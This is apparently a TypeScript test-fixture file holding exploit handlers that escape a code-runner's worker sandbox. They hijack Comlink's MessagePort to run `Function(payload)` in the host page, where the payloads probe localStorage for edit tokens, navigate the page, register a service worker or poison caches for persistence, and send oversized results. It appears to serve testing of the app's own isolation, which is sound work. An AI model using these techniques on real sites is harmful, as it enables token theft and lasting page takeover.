/**
 * A hostile handler, as an attacker would share it: inside its worker it catches the Comlink port
 * behind the log callback (by patching `MessagePort.prototype.postMessage` and printing a line),
 * then sends Comlink `CONSTRUCT`/`APPLY` messages down it that build and run `Function(PAYLOAD)`
 * wherever the callback lives. It returns what the payload found, and what the handler could reach
 * from its worker. Before the runner frame, the callback lived on the page: the payload read every
 * edit token in `localStorage`.
 */

/** Runs where the log callback lives; reports what it could reach, and tries to mark the page. */
const PAYLOAD = `
  const found = { ranIn: String(self.origin) };
  try { found.storage = Object.keys(localStorage).length + " keys"; }
  catch (error) { found.storage = "denied: " + error.name; }
  try { parent.__fnpadPwned = true; top.document.title = "pwned"; found.page = "reached"; }
  catch (error) { found.page = "denied: " + error.name; }
  try { top.location.href = "about:blank#pwned"; found.navigation = "navigated"; }
  catch (error) { found.navigation = "denied: " + error.name; }
  found.popup = open("about:blank") ? "opened" : "blocked";
  // A lasting takeover: poison the app's offline copy, or put a service worker of its own in.
  try { caches.open("fnpad-build-x"); found.caches = "reached"; }
  catch (error) { found.caches = "denied: " + error.name; }
  try { navigator.serviceWorker.register("/fn/x/sw.js"); found.serviceWorker = "reached"; }
  catch (error) { found.serviceWorker = "denied: " + error.name; }
  // Its parent is the page.
  try { parent.caches.open("fnpad-build-x"); found.hostCaches = "reached"; }
  catch (error) { found.hostCaches = "denied: " + error.name; }
  try { parent.navigator.serviceWorker.register("/fn/x/sw.js"); found.hostServiceWorker = "reached"; }
  catch (error) { found.hostServiceWorker = "denied: " + error.name; }
  try { parent.location.href = "/?pwned"; } catch (error) {}
  return JSON.stringify(found);
`;

/**
 * The body of `async (trigger) => …` that runs `payload` where the log callback lives;
 * `trigger()` must print a line through the runtime.
 */
const attackWith = (payload: string) => `return (async () => {
  const port = await new Promise((resolve) => {
    const original = MessagePort.prototype.postMessage;
    MessagePort.prototype.postMessage = function (...args) {
      MessagePort.prototype.postMessage = original;
      resolve(this);
      return original.apply(this, args);
    };
    trigger();
  });
  const call = (target, message) => new Promise((resolve) => {
    const id = "attack-" + Math.random();
    target.addEventListener("message", function listen(event) {
      if (event.data?.id !== id) return;
      target.removeEventListener("message", listen);
      resolve(event.data);
    });
    target.start();
    target.postMessage({ id, ...message });
  });
  const made = await call(port, {
    type: "CONSTRUCT",
    path: ["constructor"],
    argumentList: [{ type: "RAW", value: ${JSON.stringify(payload)} }],
  });
  const result = await call(made.value, { type: "APPLY", path: [], argumentList: [] });
  return result.value;
})();`;

const ATTACK = attackWith(PAYLOAD);

/**
 * From the runner frame, posts the page a result for each of its first runs whose body is over
 * the size cap: a page that takes it renders 9 MiB of whatever the runner chose.
 */
const OVERSIZED_PAYLOAD = `
  const body = new Uint8Array(9 * 1024 * 1024);
  const outcome = { response: { status: 200, headers: [], body }, logs: [], durationMs: 1 };
  for (let runId = 0; runId < 4; runId++)
    parent.postMessage({ type: "result", runId, outcome }, "*");
  return "sent";
`;

/** A TypeScript handler whose run takes over its runner frame and sends an oversized result. */
export const OVERSIZED_RESULT_ATTACK = `export default async function handler() {
  const attack = new Function("trigger", ${JSON.stringify(attackWith(OVERSIZED_PAYLOAD))});
  return new Response(await attack(() => console.log("innocent line")));
}
`;

/**
 * From the runner, navigates the runner's own frame to the app's page: a frame sandboxed by its
 * document's CSP, not by an attribute, is not sandboxed once another document is in it, so the
 * app would load there on the page's own origin. The run waits for it: its result never comes.
 */
const NAVIGATE_AWAY_PAYLOAD = `
  location.href = "/";
  return new Promise(() => {});
`;

/** A TypeScript handler whose run takes over its runner frame and navigates it to the app. */
export const NAVIGATE_AWAY_ATTACK = `export default async function handler() {
  const attack = new Function("trigger", ${JSON.stringify(attackWith(NAVIGATE_AWAY_PAYLOAD))});
  return new Response(await attack(() => console.log("innocent line")));
}
`;

/** The attack as a TypeScript handler. */
export const TYPESCRIPT_ATTACK = `export default async function handler() {
  const attack = new Function("trigger", ${JSON.stringify(ATTACK)});
  const found = JSON.parse(await attack(() => console.log("innocent line")));
  found.workerCaches = typeof caches;
  found.workerServiceWorker = typeof navigator.serviceWorker;
  return Response.json(found);
}
`;

/** The same attack as a Python handler, through Pyodide's \`js\` module. */
export const PYTHON_ATTACK = `import json
import js
from js import Function
from pyodide.ffi import create_proxy

ATTACK = ${JSON.stringify(ATTACK)}

async def handler(request):
    attack = Function.new("trigger", ATTACK)
    found = json.loads(await attack(create_proxy(lambda: print("innocent line"))))
    found["workerCaches"] = js.eval("typeof caches")
    found["workerServiceWorker"] = js.eval("typeof navigator.serviceWorker")
    return found
`;
